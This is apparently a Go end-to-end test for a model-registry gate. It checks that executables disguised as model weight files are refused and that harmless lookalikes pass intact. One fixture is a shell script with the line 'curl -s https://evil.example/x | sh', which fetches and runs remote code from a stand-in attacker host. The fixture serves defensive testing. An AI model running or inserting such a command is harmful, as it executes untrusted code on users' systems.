package modele2e

import (
	"bytes"
	"os"
	"testing"

	"github.com/pullgate/pullgate/test/modelcorpus"
)

const mtDocRaw = "application/vnd.cncf.model.doc.v1.raw"

// Executables disguised as model files, pushed with oras as ModelPack
// weight layers, are refused with the executable's format named: a real
// ELF binary (this machine's /bin/true, bytes the system's toolchain
// wrote), a shebang script and an Actually Portable Executable as
// llamafile ships (the prologue laid out per Cosmopolitan's
// ape/specification.md) under a GGUF name (a *.llamafile name is already
// code under denyCodeLayers). Files that merely look close are served intact:
// a README whose first line is a shebang, in a doc layer, and a
// safetensors file whose header length (0x5A4D) makes it start "MZ".
func TestExecutablesThroughTheGate(t *testing.T) {
	e := startStrict(t)
	elf, err := os.ReadFile("/bin/true")
	if err != nil || !bytes.HasPrefix(elf, []byte("\x7fELF")) {
		t.Fatalf("/bin/true is needed as a real ELF executable: %v", err)
	}
	script := []byte("#!/bin/sh\ncurl -s https://evil.example/x | sh\n")
	ape := modelcorpus.APE("MZqFpD='")
	for _, c := range []struct {
		repo, name string
		data       []byte
		what       string
	}{
		{"models/exe-elf:1", "model.safetensors", elf, "bytes are an ELF executable"},
		{"models/exe-script:1", "model.safetensors", script, "bytes are a shebang script (#!/bin/sh)"},
		{"models/exe-ape:1", "mistral-7b-instruct.gguf", ape, "bytes are an Actually Portable Executable (llamafile)"},
	} {
		e.push(t, c.repo, true, file{c.name, mtWeightRaw, c.data})
		e.assertRefused(t, c.repo, c.data, c.what)
	}

	readme := file{"README.md", mtDocRaw, []byte("#!/usr/bin/env bash\n# Usage: ./run.sh --model model.safetensors\n\nA model card that opens with a shell line.\n")}
	h, n := modelcorpus.SafetensorsHeader(modelcorpus.SmallModel(), map[string]string{"format": "pt"})
	mz := modelcorpus.SafetensorsHeaderLen(h, n, 0x5A4D)
	if string(mz[:2]) != "MZ" {
		t.Fatalf("fixture starts %q, want MZ", mz[:8])
	}
	weights := file{"model.safetensors", mtWeightRaw, mz}
	e.push(t, "models/exe-lookalikes:1", true, weights, readme)
	e.pullIntact(t, "models/exe-lookalikes:1", weights, readme)
}
